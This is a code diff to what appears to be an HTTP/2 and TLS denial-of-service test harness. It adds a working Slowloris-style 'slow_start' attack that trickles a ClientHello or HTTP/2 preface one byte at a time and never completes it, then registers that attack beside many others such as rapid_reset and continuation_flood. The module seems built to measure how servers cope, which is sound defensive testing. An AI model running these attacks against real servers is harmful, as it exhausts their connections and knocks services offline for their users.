@@ -624,6 +624,44 @@ def half_open(target: Target, *, connections: int = 20, partial: bool = True,
     return _run("half_open", target, body)
 
 
+def slow_start(target: Target, *, connections: int = 3, interval_s: float = 0.25,
+               hold_s: float = 8.0) -> AttackResult:
+    """Slowloris at the door: the ClientHello (TLS) or the HTTP/2 preface, one byte per
+    ``interval_s``, so the connection is never idle and never starts. ``closed_by_server``
+    counts the connections the server closed within ``hold_s``."""
+    def body(r: AttackResult) -> None:
+        start = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(506) if target.tls
+                 else PREFACE + SettingsFrame(0).serialize())
+        socks = []
+        for _ in range(connections):
+            s = socket.create_connection((target.host, target.port), timeout=2.0)
+            r.local_ports.append(s.getsockname()[1])
+            s.setblocking(False)
+            socks.append(s)
+        deadline = time.monotonic() + hold_s
+        open_socks = list(socks)
+        pos = 0
+        while open_socks and time.monotonic() < deadline:
+            for s in list(open_socks):
+                try:
+                    if pos < len(start) - 1:  # never the last byte: the start never completes
+                        r.bytes_sent += s.send(start[pos:pos + 1])
+                    chunk = s.recv(65536)
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    chunk = b""
+                r.bytes_received += len(chunk)
+                if not chunk:
+                    r.closed_by_server += 1
+                    open_socks.remove(s)
+            pos += 1
+            time.sleep(interval_s)
+        for s in socks:
+            s.close()
+    return _run("slow_start", target, body)
+
+
 def garbage_tls(target: Target, *, connections: int = 5, garbage_bytes: int = 4096,
                 seed: int = 8, wait_s: float = 3.0) -> AttackResult:
     """Bytes that are not TLS: random noise, and a handshake record header announcing a
@@ -656,5 +694,5 @@ ATTACKS: dict[str, Callable[..., AttackResult]] = {
         ping_flood, settings_flood, settings_too_many_entries, priority_churn, reset_flood,
         zero_length_headers, internal_data_buffering, empty_frames_flood, data_dribble,
         rapid_reset, continuation_flood, zero_window, slow_reader, abrupt_reset, half_open,
-        garbage_tls)
+        slow_start, garbage_tls)
 }
